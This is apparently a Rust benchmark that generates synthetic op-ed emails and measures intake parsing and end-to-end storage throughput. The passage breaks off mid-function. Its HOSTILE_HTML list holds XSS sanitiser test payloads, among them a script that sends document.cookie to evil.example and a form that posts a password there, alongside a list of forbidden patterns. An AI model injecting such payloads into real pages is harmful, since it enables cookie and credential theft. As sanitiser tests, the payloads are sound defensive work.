//! Intake throughput: mails per second through the parse step alone, and
//! stored end to end through `POST /api/v1/inbound/messages` into PostgreSQL.
//!
//! Run it through `bench/intake`, which builds in release mode and prints the
//! machine first; the figures and how to read them are in BENCHMARKS.md.
//!
//! The same seeded list of mails feeds both modes. The end-to-end mode starts
//! `oped serve` itself on a free 127.0.0.1 port, over a database of its own
//! (`oped_bench_<pid>`) that it drops when it is done, and sends nothing
//! anywhere else: it refuses a PostgreSQL server that is not on loopback.

use std::collections::{BTreeMap, HashMap};
use std::fmt::Write as _;
use std::fs::File;
use std::io::Write as _;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, ExitCode, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use anyhow::{Context, bail, ensure};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as BASE64;
use clap::{Parser, ValueEnum};
use diesel::prelude::*;
use diesel::sql_types::{BigInt, Text};
use oped::config::{Config, IntakeConfig};
use oped::intake::draft::build_draft;
use oped::intake::{self, Analysis};

#[derive(Debug, Parser)]
#[command(
    name = "intake_bench",
    about = "Intake throughput: the parse step alone, and end to end over HTTP into PostgreSQL"
)]
struct Options {
    /// What to run: both modes, one of them, or only write the mails out.
    #[arg(long, value_enum, default_value_t = Mode::All)]
    mode: Mode,
    /// How many mails to generate (one list, used by both modes).
    #[arg(long, default_value_t = 10_000)]
    mails: usize,
    /// Generator seed: the same seed gives the same mails, byte for byte.
    #[arg(long, default_value_t = 2026)]
    seed: u64,
    /// Timed passes over all mails in parse mode, after one untimed warm-up pass.
    #[arg(long, default_value_t = 5)]
    passes: usize,
    /// Threads of the multi-threaded parse run.
    #[arg(long, default_value_t = 2)]
    threads: usize,
    /// Concurrent HTTP clients in end-to-end mode.
    #[arg(long, default_value_t = 16)]
    concurrency: usize,
    /// The `oped` binary to start.
    #[arg(long, default_value = "target/release/oped")]
    server: PathBuf,
    /// The PostgreSQL server; it must be on loopback. Its database name is
    /// replaced, its parameters (such as `?sslmode=disable`) are kept.
    #[arg(long, default_value = "postgres://postgres@127.0.0.1:5432")]
    postgres: String,
    /// Extra environment for `oped serve`, as NAME=VALUE (repeatable): to try
    /// a setting. The server otherwise gets a clean environment.
    #[arg(long = "server-env", value_name = "NAME=VALUE", value_parser = parse_env_pair)]
    server_env: Vec<(String, String)>,
    /// Stop sending (and fail) when the end-to-end run takes longer than this.
    #[arg(long, default_value_t = 180)]
    time_limit_secs: u64,
    /// With `--mode generate`: the directory to write the mails to, as .eml files.
    #[arg(long, default_value = "target/intake-bench-mails")]
    out: PathBuf,
}

fn parse_env_pair(pair: &str) -> Result<(String, String), String> {
    match pair.split_once('=') {
        Some((name, value)) if !name.is_empty() => Ok((name.to_string(), value.to_string())),
        _ => Err(format!("{pair:?} is not NAME=VALUE")),
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
enum Mode {
    All,
    Parse,
    E2e,
    Generate,
}

/// The desk's own address (`OPED_FROM`; its domain is the desk's own domain).
const DESK_FROM: &str = "Op-Ed Desk <oped@desk.example>";
const DESK_ADDRESS: &str = "oped@desk.example";
/// Our receiving server: its `Authentication-Results` headers are trusted.
const AUTHSERV_ID: &str = "mx.desk.example";

fn main() -> ExitCode {
    let options = Options::parse();
    match run(&options) {
        Ok(()) => ExitCode::SUCCESS,
        Err(err) => {
            eprintln!("\nintake_bench: FAILED: {err:#}");
            ExitCode::FAILURE
        }
    }
}

fn run(options: &Options) -> anyhow::Result<()> {
    ensure!(options.mails > 0, "--mails must be at least 1");
    ensure!(options.passes > 0, "--passes must be at least 1");
    ensure!(options.threads > 0, "--threads must be at least 1");
    ensure!(options.concurrency > 0, "--concurrency must be at least 1");

    let started = Instant::now();
    let mails = Generator::new(options.seed).generate(options.mails);
    println!(
        "generated {} mails (seed {}) in {:.2} s",
        mails.len(),
        options.seed,
        started.elapsed().as_secs_f64()
    );
    print_mix(&mails);

    let settings = Settings::new(&options.server_env);
    match options.mode {
        Mode::Generate => write_mails(&options.out, &mails),
        Mode::Parse => parse_benchmark(options, &settings, &mails).map(|_| ()),
        Mode::E2e => end_to_end(options, &settings, &mails, None),
        Mode::All => {
            let parse = parse_benchmark(options, &settings, &mails)?;
            end_to_end(options, &settings, &mails, Some(parse))
        }
    }
}

// ---------------------------------------------------------------------------
// The workload
// ---------------------------------------------------------------------------

/// The kinds of mail the desk receives, with their share of the mix.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
enum Kind {
    /// A ~20 KB op-ed in a text/plain body, 8bit or quoted-printable.
    PlainOped,
    /// A short cover note with the op-ed as a .docx attachment.
    DocxOped,
    /// multipart/alternative with an HTML body carrying hostile markup.
    HtmlOped,
    /// Arabic op-ed in windows-1256, 8bit, with RFC 2047 headers.
    ArabicWindows1256,
    /// Arabic op-ed in UTF-8, base64.
    ArabicUtf8,
    /// Out-of-office and similar machine mail.
    AutoReply,
    /// Mail to the desk without the op-ed marker (press releases, questions).
    Unmatched,
    /// The author answering in an earlier op-ed's thread, half with a revised .docx.
    Reply,
    /// The exact bytes of an earlier op-ed delivered again.
    Redelivery,
}

impl Kind {
    /// Per mille of the mix. Replies and redeliveries need an earlier op-ed
    /// far enough back; the first mails of a list fall back to plain op-eds.
    const MIX: [(Kind, u32); 9] = [
        (Kind::PlainOped, 530),
        (Kind::DocxOped, 150),
        (Kind::HtmlOped, 120),
        (Kind::ArabicWindows1256, 40),
        (Kind::ArabicUtf8, 40),
        (Kind::AutoReply, 40),
        (Kind::Unmatched, 50),
        (Kind::Reply, 20),
        (Kind::Redelivery, 10),
    ];

    fn label(self) -> &'static str {
        match self {
            Kind::PlainOped => "plain op-ed",
            Kind::DocxOped => "op-ed in .docx",
            Kind::HtmlOped => "html op-ed",
            Kind::ArabicWindows1256 => "arabic windows-1256",
            Kind::ArabicUtf8 => "arabic utf-8",
            Kind::AutoReply => "auto-reply",
            Kind::Unmatched => "unmatched",
            Kind::Reply => "reply in thread",
            Kind::Redelivery => "redelivery",
        }
    }

    /// The outcome the server must give it.
    fn expected_outcome(self) -> &'static str {
        match self {
            Kind::AutoReply => "ignored_auto",
            Kind::Unmatched => "unmatched",
            Kind::Reply => "reply",
            Kind::Redelivery => "duplicate",
            _ => "submission",
        }
    }

    fn is_oped(self) -> bool {
        self.expected_outcome() == "submission"
    }
}

/// What the parse step must make of a mail; checked once, untimed, so the
/// timed passes are known to exercise the paths the mix claims.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum ParseVerdict {
    Quarantined,
    Automatic,
    /// No marker and no thread: recorded as unmatched, no draft built.
    NoDraft,
    Draft {
        from_document: bool,
    },
}

impl ParseVerdict {
    fn label(self) -> &'static str {
        match self {
            ParseVerdict::Quarantined => "quarantined",
            ParseVerdict::Automatic => "automatic",
            ParseVerdict::NoDraft => "no draft",
            ParseVerdict::Draft {
                from_document: false,
            } => "draft from the text",
            ParseVerdict::Draft {
                from_document: true,
            } => "draft from a document",
        }
    }
}

struct Mail {
    kind: Kind,
    raw: Vec<u8>,
    parse_verdict: ParseVerdict,
}

/// An earlier op-ed that a reply or a redelivery can refer to.
struct Original {
    index: usize,
    message_id: String,
    author: usize,
    title: String,
}

#[derive(Clone)]
struct Author {
    /// Display name, already RFC 2047-encoded when it is not ASCII.
    display: String,
    email: String,
}

/// Replies and redeliveries refer to an op-ed at least this many mails
/// earlier, so that with any sane client count the original has been
/// stored when they arrive (otherwise a reply would become a new submission).
const MIN_REFERENCE_GAP: usize = 500;

/// SplitMix64: small, fast and fully determined by its seed, which is all a
/// workload generator needs (and it cannot change under us with a crate update).
struct Rng(u64);

impl Rng {
    fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next_u64() % n as u64) as usize
    }

    /// Uniform in `low..=high`.
    fn between(&mut self, low: usize, high: usize) -> usize {
        low + self.below(high - low + 1)
    }

    fn percent(&mut self, percent: usize) -> bool {
        self.below(100) < percent
    }

    fn pick<T: Copy>(&mut self, items: &[T]) -> T {
        items[self.below(items.len())]
    }
}

#[rustfmt::skip]
const WORDS: &[&str] = &[
    "the", "the", "the", "of", "of", "and", "and", "to", "to", "in", "in", "a", "a", "is", "that",
    "for", "it", "as", "with", "was", "on", "be", "by", "this", "are", "not", "but", "from", "or",
    "have", "an", "they", "which", "one", "you", "were", "all", "we", "when", "there", "can",
    "more", "no", "if", "than", "been", "its", "who", "now", "people", "city", "budget",
    "government", "ministry", "council", "water", "electricity", "schools", "teachers", "hospital",
    "roads", "ports", "trade", "farmers", "wages", "prices", "fuel", "subsidies", "reform",
    "election", "parliament", "court", "constitution", "elections", "youth", "women", "families",
    "migration", "coast", "desert", "oil", "revenue", "banks", "currency", "inflation", "market",
    "public", "private", "local", "national", "regional", "municipal", "transparent", "fragile",
    "stable", "urgent", "overdue", "reasonable", "costly", "affordable", "accountable", "fair",
    "should", "must", "could", "would", "will", "never", "always", "often", "rarely", "again",
    "build", "spend", "invest", "reform", "protect", "measure", "publish", "explain", "listen",
    "decide", "share", "vote", "pay", "repair", "negotiate", "recover", "grow", "trust", "plans",
    "promises", "years", "decades", "months", "neighbourhoods", "streets", "clinics", "contracts",
    "audits", "numbers", "reports", "citizens", "officials", "donors", "lenders", "engineers",
    "café", "naïve", "résumé", "—", "“enough”", "‘later’", "2026", "40%", "€3m",
];

#[rustfmt::skip]
const TITLE_NOUNS: &[&str] = &[
    "budget", "water", "ports", "schools", "elections", "fuel subsidies", "the central bank",
    "municipal councils", "public hospitals", "the coast road", "youth unemployment", "the courts",
    "local taxes", "the electricity grid", "teachers' pay", "migration", "the audit office",
    "small farmers", "housing", "the currency",
];
#[rustfmt::skip]
const TITLE_ADJECTIVES: &[&str] = &[
    "transparent", "fair", "urgent", "honest", "local", "patient", "bold", "accountable", "quiet",
    "affordable", "overdue", "serious",
];
#[rustfmt::skip]
const PLACES: &[&str] = &[
    "Tripoli", "Benghazi", "Misrata", "Sabha", "Tunis", "Cairo", "Malta", "Amman", "Beirut",
    "Rabat", "Algiers", "Khartoum",
];

#[rustfmt::skip]
const FIRST_NAMES: &[&str] = &[
    "Amal", "Omar", "Sara", "Khaled", "Layla", "Yusuf", "Mona", "Tarek", "Hana", "Nadia", "Samir",
    "Rania", "Karim", "Salma", "Hassan", "Ines", "Fatima", "Walid", "Dina", "Adam", "Claire",
    "Marco", "Elena", "Jonas", "Priya", "Tom", "Lucia", "Anders",
];
#[rustfmt::skip]
const LAST_NAMES: &[&str] = &[
    "Haddad", "Salem", "Mansour", "Nasser", "Khalil", "Aziz", "Farouk", "Hamdi", "Zayed", "Saleh",
    "Benali", "Gharbi", "Obeidi", "Fitouri", "Rossi", "Moreau", "Berg", "Iyer", "Walsh", "Novak",
];
const ARABIC_NAMES: &[&str] = &[
    "خالد المبروك",
    "أمل الحداد",
    "عمر سالم",
    "ليلى منصور",
    "يوسف ناصر",
    "منى الفيتوري",
    "طارق العبيدي",
    "هناء زايد",
];
#[rustfmt::skip]
const DOMAINS: &[&str] = &[
    "example.com", "example.org", "example.net", "example.ly", "mail.example", "uni.example.edu",
];

#[rustfmt::skip]
const ARABIC_WORDS: &[&str] = &[
    "إن", "في", "من", "على", "إلى", "أن", "التي", "الذي", "هذا", "هذه", "مع", "عن", "كل", "بين",
    "الميزانية", "الحكومة", "المدينة", "المياه", "الكهرباء", "المدارس", "المعلمين", "المستشفى",
    "الطرق", "الموانئ", "التجارة", "المزارعين", "الأجور", "الأسعار", "الوقود", "الدعم", "الإصلاح",
    "الانتخابات", "البرلمان", "المحكمة", "الدستور", "الشباب", "النساء", "الأسر", "الساحل",
    "الصحراء", "النفط", "الإيرادات", "المصارف", "العملة", "التضخم", "السوق", "الموحدة", "العامة",
    "المحلية", "الوطنية", "يجب", "يمكن", "نحتاج", "نبني", "ننفق", "نستثمر", "نحمي", "ننشر", "نشرح",
    "نستمع", "نقرر", "سنوات", "عقود", "أشهر", "الأحياء", "الشوارع", "العقود", "التقارير",
    "المواطنين", "المسؤولين", "ليبيا", "طرابلس", "بنغازي", "مصراتة", "سبها",
];
const ARABIC_TITLES: &[&str] = &[
    "لماذا تحتاج ليبيا إلى ميزانية موحدة",
    "مستقبل الانتخابات في ليبيا",
    "أزمة المياه في الجنوب",
    "الكهرباء قبل الصيف",
    "إصلاح دعم الوقود دون إيذاء الأسر",
    "المدارس تستحق أكثر",
    "الموانئ ومستقبل التجارة",
    "الشباب والعمل في المدن",
];

/// Fragments a sanitiser must remove, spread through the HTML op-eds.
const HOSTILE_HTML: &[&str] = &[
    "<script>fetch('https://evil.example/steal?c='+document.cookie)</script>",
    "<img src=\"x\" onerror=\"alert(document.domain)\">",
    "<a href=\"javascript:alert(1)\">read the full report</a>",
    "<iframe src=\"https://evil.example/frame\" width=\"1\" height=\"1\"></iframe>",
    "<object data=\"https://evil.example/x.swf\"></object>",
    "<form action=\"https://evil.example/login\"><input type=\"password\" name=\"p\"></form>",
    "<svg onload=\"alert(1)\"><circle r=\"1\"/></svg>",
    "<style>body { background: url('javascript:alert(1)') }</style>",
    "<div onclick=\"steal()\" style=\"position:fixed;top:0\">click</div>",
];
/// Markup the sanitiser must let through or drop harmlessly.
const BENIGN_HTML: &[&str] = &[
    "<a href=\"https://example.org/source\">the ministry's figures</a>",
    "<b>this matters</b>",
    "<i>in the long run</i>",
    "<span style=\"color:#333\">as the report says</span>",
];
/// What must not survive sanitising (checked on every HTML op-ed).
const FORBIDDEN_AFTER_SANITISING: &[&str] = &[
    "<script",
    "onerror",
    "javascript:",
    "<iframe",
    "<object",
    "<form",
    "onload",
    "onclick",
];

struct Generator {
    rng: Rng,
    authors: Vec<Author>,
    arabic_authors: Vec<Author>,
    originals: Vec<Original>,
    mails: Vec<Mail>,
    seed: u64,
}

impl Generator {
    fn new(seed: u64) -> Self {
        let mut rng = Rng(seed);
        let authors = (0..1500)
            .map(|n| {
                let first = rng.pick(FIRST_NAMES);
                let last = rng.pick(LAST_NAMES);
                let domain = rng.pick(DOMAINS);
                Author {
                    display: format!("{first} {last}"),
                    email: format!(
                        "{}.{}{n}@{domain}",
                        first.to_ascii_lowercase(),
                        last.to_ascii_lowercase()
                    ),
                }
            })
            .collect();
        let arabic_authors = (0..300)
            .map(|n| {
                let name = rng.pick(ARABIC_NAMES);
                Author {
                    display: encoded_words(name, "UTF-8", |text| text.as_bytes().to_vec()),
                    email: format!("writer{n}@{}", rng.pick(DOMAINS)),
                }
            })
            .collect();
        Generator {
            rng,
            authors,
            arabic_authors,
            originals: Vec::new(),
            mails: Vec::new(),
            seed,
        }
    }

    fn generate(mut self, count: usize) -> Vec<Mail> {
        for index in 0..count {
            let kind = self.draw_kind(index);
            let mail = match kind {
                Kind::PlainOped => self.plain_oped(index),
                Kind::DocxOped => self.docx_oped(index),
                Kind::HtmlOped => self.html_oped(index),
                Kind::ArabicWindows1256 => self.arabic_oped(index, true),
                Kind::ArabicUtf8 => self.arabic_oped(index, false),
                Kind::AutoReply => self.auto_reply(index),
                Kind::Unmatched => self.unmatched(index),
                Kind::Reply => self.reply(index),
                Kind::Redelivery => self.redelivery(index),
            };
            self.mails.push(mail);
        }
        self.mails
    }

    fn draw_kind(&mut self, index: usize) -> Kind {
        let mut draw = self.rng.below(1000) as u32;
        let mut kind = Kind::PlainOped;
        for (candidate, share) in Kind::MIX {
            if draw < share {
                kind = candidate;
                break;
            }
            draw -= share;
        }
        let has_old_original = self
            .originals
            .first()
            .is_some_and(|first| first.index + MIN_REFERENCE_GAP <= index);
        match kind {
            Kind::Reply | Kind::Redelivery if !has_old_original => Kind::PlainOped,
            other => other,
        }
    }

    /// An op-ed at least `MIN_REFERENCE_GAP` mails before `index`.
    fn old_original(&mut self, index: usize) -> usize {
        let eligible = self
            .originals
            .partition_point(|original| original.index + MIN_REFERENCE_GAP <= index);
        self.rng.below(eligible)
    }

    fn message_id(&mut self, index: usize, email: &str) -> String {
        let domain = email.rsplit_once('@').map_or("example.com", |(_, d)| d);
        format!(
            "{index:06}.{:016x}.{}@{domain}",
            self.rng.next_u64(),
            self.seed
        )
    }

    /// A typical op-ed is 20 KB: the mean of three uniform draws in 8–32 KB
    /// gives a bell around it with a few short and long ones.
    fn article_bytes(&mut self) -> usize {
        (0..3)
            .map(|_| self.rng.between(8_000, 32_000))
            .sum::<usize>()
            / 3
    }

    fn title(&mut self) -> String {
        let noun = self.rng.pick(TITLE_NOUNS);
        let adjective = self.rng.pick(TITLE_ADJECTIVES);
        let place = self.rng.pick(PLACES);
        match self.rng.below(5) {
            0 => format!("Why {place} needs {adjective} {noun}"),
            1 => format!("The case for {adjective} {noun}"),
            2 => format!("What {place} can teach us about {noun}"),
            3 => format!("Stop ignoring {noun}"),
            _ => format!(
                "{} after the election: a {adjective} plan",
                capitalise(noun)
            ),
        }
    }

    /// Mostly "Op-Ed: <title>", with the other forms writers use.
    fn oped_subject(&mut self, title: &str) -> String {
        match self.rng.below(20) {
            0 => format!("[Op-Ed] {title}"),
            1 => format!("{title} (op-ed)"),
            2 => format!("OP-ED - {title}"),
            _ => format!("Op-Ed: {title}"),
        }
    }

    fn sentence(&mut self) -> String {
        let length = self.rng.between(8, 22);
        let mut sentence = String::new();
        for n in 0..length {
            let word = self.rng.pick(WORDS);
            if n == 0 {
                sentence.push_str(&capitalise(word));
            } else {
                sentence.push(' ');
                sentence.push_str(word);
                if n + 1 < length && self.rng.percent(6) {
                    sentence.push(',');
                }
            }
        }
        sentence.push(if self.rng.percent(8) { '?' } else { '.' });
        sentence
    }

    fn paragraphs(&mut self, bytes: usize) -> Vec<String> {
        let mut paragraphs = Vec::new();
        let mut total = 0;
        while total < bytes {
            let sentences = self.rng.between(3, 7);
            let paragraph = (0..sentences)
                .map(|_| self.sentence())
                .collect::<Vec<_>>()
                .join(" ");
            total += paragraph.len() + 2;
            paragraphs.push(paragraph);
        }
        paragraphs
    }

    fn arabic_paragraphs(&mut self, chars: usize) -> Vec<String> {
        let mut paragraphs = Vec::new();
        let mut total = 0;
        while total < chars {
            let mut paragraph = String::new();
            for _ in 0..self.rng.between(3, 6) {
                for n in 0..self.rng.between(8, 18) {
                    if n > 0 {
                        paragraph.push(' ');
                    }
                    paragraph.push_str(self.rng.pick(ARABIC_WORDS));
                }
                paragraph.push_str(if self.rng.percent(10) { "؟ " } else { ". " });
            }
            let paragraph = paragraph.trim_end().to_string();
            total += paragraph.chars().count() + 2;
            paragraphs.push(paragraph);
        }
        paragraphs
    }

    /// The headers a message has after crossing two MTAs into our mailbox.
    fn envelope(
        &mut self,
        index: usize,
        from: &Author,
        subject: &str,
        message_id: &str,
        extra: &str,
    ) -> String {
        let domain = from.email.rsplit_once('@').map_or("", |(_, d)| d);
        let (hour, minute, second) = ((index / 3600) % 24, (index / 60) % 60, index % 60);
        let ip_tail = self.rng.between(1, 254);
        let queue_id = self.rng.next_u64();
        format!(
            "Return-Path: <{email}>\r\n\
             Received: from mail.{domain} (mail.{domain} [192.0.2.{ip_tail}])\r\n\
             \tby {AUTHSERV_ID} (Postfix) with ESMTPS id {queue_id:012X}\r\n\
             \tfor <{DESK_ADDRESS}>; Tue, 24 Nov 2026 {hour:02}:{minute:02}:{second:02} +0000 (UTC)\r\n\
             Received: from [10.0.0.{ip_tail}] (unknown [198.51.100.{ip_tail}])\r\n\
             \tby mail.{domain} with ESMTPSA; Tue, 24 Nov 2026 {hour:02}:{minute:02}:{second:02} +0000\r\n\
             Authentication-Results: {AUTHSERV_ID};\r\n\
             \tdkim=pass header.d={domain} header.s=mail;\r\n\
             \tspf=pass smtp.mailfrom={email};\r\n\
             \tdmarc=pass header.from={domain}\r\n\
             From: {display} <{email}>\r\n\
             To: {DESK_FROM}\r\n\
             Subject: {subject}\r\n\
             Date: Tue, 24 Nov 2026 {hour:02}:{minute:02}:{second:02} +0000\r\n\
             Message-ID: <{message_id}>\r\n\
             {extra}\
             MIME-Version: 1.0\r\n",
            email = from.email,
            display = from.display,
        )
    }

    fn remember_original(
        &mut self,
        index: usize,
        message_id: String,
        author: usize,
        title: String,
    ) {
        self.originals.push(Original {
            index,
            message_id,
            author,
            title,
        });
    }

    fn plain_oped(&mut self, index: usize) -> Mail {
        let author = self.rng.below(self.authors.len());
        let from = self.authors[author].clone();
        let title = self.title();
        let subject = self.oped_subject(&title);
        let bytes = self.article_bytes();
        let paragraphs = self.paragraphs(bytes);
        let body = format!(
            "Dear editor,\r\n\r\nPlease consider the piece below for publication.\r\n\r\n{title}\r\n\r\n{}\r\n\r\n-- \r\n{}\r\n",
            paragraphs
                .iter()
                .map(|p| wrap(p, 72))
                .collect::<Vec<_>>()
                .join("\r\n\r\n"),
            from.display,
        );
        let message_id = self.message_id(index, &from.email);
        let (encoding, body) = if self.rng.percent(30) {
            ("quoted-printable", quoted_printable(body.as_bytes()))
        } else {
            ("8bit", body)
        };
        let headers = self.envelope(index, &from, &subject, &message_id, "");
        let raw = format!(
            "{headers}Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: {encoding}\r\n\r\n{body}"
        );
        self.remember_original(index, message_id, author, title);
        Mail {
            kind: Kind::PlainOped,
            raw: raw.into_bytes(),
            parse_verdict: ParseVerdict::Draft {
                from_document: false,
            },
        }
    }

    fn docx_oped(&mut self, index: usize) -> Mail {
        let author = self.rng.below(self.authors.len());
        let from = self.authors[author].clone();
        let title = self.title();
        let subject = self.oped_subject(&title);
        let bytes = self.article_bytes();
        let paragraphs = self.paragraphs(bytes);
        let document = self.docx(&title, &paragraphs, &from.display);
        let cover = format!(
            "Dear editor,\r\n\r\nPlease find attached my op-ed \"{title}\" ({} words) for your consideration.\r\n\r\nBest regards,\r\n{}\r\n",
            paragraphs
                .iter()
                .map(|p| p.split_whitespace().count())
                .sum::<usize>(),
            from.display,
        );
        let message_id = self.message_id(index, &from.email);
        let boundary = format!("=_mixed_{:016x}", self.rng.next_u64());
        let filename = format!("{}.docx", slug(&title));
        let headers = self.envelope(index, &from, &subject, &message_id, "");
        let raw = format!(
            "{headers}Content-Type: multipart/mixed; boundary=\"{boundary}\"\r\n\r\n\
             This is a multi-part message in MIME format.\r\n\
             --{boundary}\r\n\
             Content-Type: text/plain; charset=utf-8\r\n\
             Content-Transfer-Encoding: 8bit\r\n\r\n\
             {cover}\r\n\
             --{boundary}\r\n\
             Content-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document; name=\"{filename}\"\r\n\
             Content-Disposition: attachment; filename=\"{filename}\"\r\n\
             Content-Transfer-Encoding: base64\r\n\r\n\
             {}\r\n\
             --{boundary}--\r\n",
            base64_lines(&document),
        );
        self.remember_original(index, message_id, author, title);
        Mail {
            kind: Kind::DocxOped,
            raw: raw.into_bytes(),
            parse_verdict: ParseVerdict::Draft {
                from_document: true,
            },
        }
    }

    /// A real .docx package laid out the way Word writes one: content types,
    /// relationships, core properties with the title, styles, and a document
    /// whose paragraphs are split into formatted runs.
    fn docx(&mut self, title: &str, paragraphs: &[String], author: &str) -> Vec<u8> {
        const W: &str = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
        let mut body = format!(
            "<w:p><w:pPr><w:pStyle w:val=\"Title\"/></w:pPr><w:r><w:t>{}</w:t></w:r></w:p>",
            xml_escape(title)
        );
        for paragraph in paragraphs {
            let _ = write!(
                body,
                "<w:p w14:paraId=\"{:08X}\"><w:pPr><w:spacing w:after=\"160\"/><w:jc w:val=\"both\"/></w:pPr>",
                self.rng.next_u64() as u32
            );
            let words: Vec<&str> = paragraph.split(' ').collect();
            let runs = self.rng.between(1, 4).min(words.len());
            let per_run = words.len().div_ceil(runs);
            for (n, chunk) in words.chunks(per_run).enumerate() {
                let mut properties =
                    String::from("<w:rFonts w:ascii=\"Calibri\" w:hAnsi=\"Calibri\"/>");
                match self.rng.below(8) {
                    0 => properties.push_str("<w:b/>"),
                    1 => properties.push_str("<w:i/>"),
                    _ => {}
                }
                properties.push_str("<w:lang w:val=\"en-GB\"/>");
                let trailing = if n + 1 < runs { " " } else { "" };
                let _ = write!(
                    body,
                    "<w:r><w:rPr>{properties}</w:rPr><w:t xml:space=\"preserve\">{}{trailing}</w:t></w:r>",
                    xml_escape(&chunk.join(" "))
                );
            }
            if self.rng.percent(5) {
                body.push_str(
                    "<w:bookmarkStart w:id=\"0\" w:name=\"_GoBack\"/><w:bookmarkEnd w:id=\"0\"/>",
                );
            }
            body.push_str("</w:p>");
        }
        let document = format!(
            "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\r\n\
             <w:document xmlns:w=\"{W}\" xmlns:w14=\"http://schemas.microsoft.com/office/word/2010/wordml\" \
             xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><w:body>{body}\
             <w:sectPr><w:pgSz w:w=\"11906\" w:h=\"16838\"/><w:pgMar w:top=\"1440\" w:right=\"1440\" \
             w:bottom=\"1440\" w:left=\"1440\"/></w:sectPr></w:body></w:document>"
        );
        let styles = format!(
            "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\r\n<w:styles xmlns:w=\"{W}\">{}</w:styles>",
            (0..40)
                .map(|n| format!(
                    "<w:style w:type=\"paragraph\" w:styleId=\"Style{n}\"><w:name w:val=\"Style {n}\"/>\
                     <w:basedOn w:val=\"Normal\"/><w:rPr><w:sz w:val=\"{}\"/></w:rPr></w:style>",
                    20 + n % 12
                ))
                .collect::<String>()
        );
        let core = format!(
            "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\r\n\
             <cp:coreProperties xmlns:cp=\"http://schemas.openxmlformats.org/package/2006/metadata/core-properties\" \
             xmlns:dc=\"http://purl.org/dc/elements/1.1/\" xmlns:dcterms=\"http://purl.org/dc/terms/\" \
             xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\"><dc:title>{}</dc:title>\
             <dc:creator>{}</dc:creator><cp:revision>{}</cp:revision>\
             <dcterms:created xsi:type=\"dcterms:W3CDTF\">2026-11-2{}T08:00:00Z</dcterms:created>\
             </cp:coreProperties>",
            xml_escape(title),
            xml_escape(author),
            self.rng.between(1, 9),
            self.rng.below(4),
        );
        let entries: [(&str, String); 6] = [
            (
                "[Content_Types].xml",
                "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\r\n\
                 <Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">\
                 <Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>\
                 <Default Extension=\"xml\" ContentType=\"application/xml\"/>\
                 <Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/>\
                 <Override PartName=\"/word/styles.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml\"/>\
                 <Override PartName=\"/docProps/core.xml\" ContentType=\"application/vnd.openxmlformats-package.core-properties+xml\"/>\
                 <Override PartName=\"/docProps/app.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.extended-properties+xml\"/>\
                 </Types>"
                    .into(),
            ),
            (
                "_rels/.rels",
                "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\r\n\
                 <Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">\
                 <Relationship Id=\"rId3\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/extended-properties\" Target=\"docProps/app.xml\"/>\
                 <Relationship Id=\"rId2\" Type=\"http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties\" Target=\"docProps/core.xml\"/>\
                 <Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/>\
                 </Relationships>"
                    .into(),
            ),
            (
                "word/_rels/document.xml.rels",
                "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\r\n\
                 <Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">\
                 <Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles\" Target=\"styles.xml\"/>\
                 </Relationships>"
                    .into(),
            ),
            ("word/document.xml", document),
            ("word/styles.xml", styles),
            ("docProps/core.xml", core),
        ];
        let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        let options = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated);
        for (name, content) in &entries {
            writer.start_file(*name, options).expect("zip entry");
            writer.write_all(content.as_bytes()).expect("zip write");
        }
        writer
            .start_file("docProps/app.xml", options)
            .expect("zip entry");
        writer
            .write_all(
                b"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\r\n\
                  <Properties xmlns=\"http://schemas.openxmlformats.org/officeDocument/2006/extended-properties\">\
                  <Application>Microsoft Office Word</Application></Properties>",
            )
            .expect("zip write");
        writer.finish().expect("zip finish").into_inner()
    }

    fn html_oped(&mut self, index: usize) -> Mail {
        let author = self.rng.below(self.authors.len());
        let from = self.authors[author].clone();
        let title = self.title();
        let subject = self.oped_subject(&title);
        // The text and the HTML alternative each carry the whole piece: half
        // the usual length keeps the mail at the typical size on the wire.
        let bytes = self.article_bytes() / 2;
        let paragraphs = self.paragraphs(bytes);
        let text = paragraphs
            .iter()
            .map(|p| wrap(p, 76))
            .collect::<Vec<_>>()
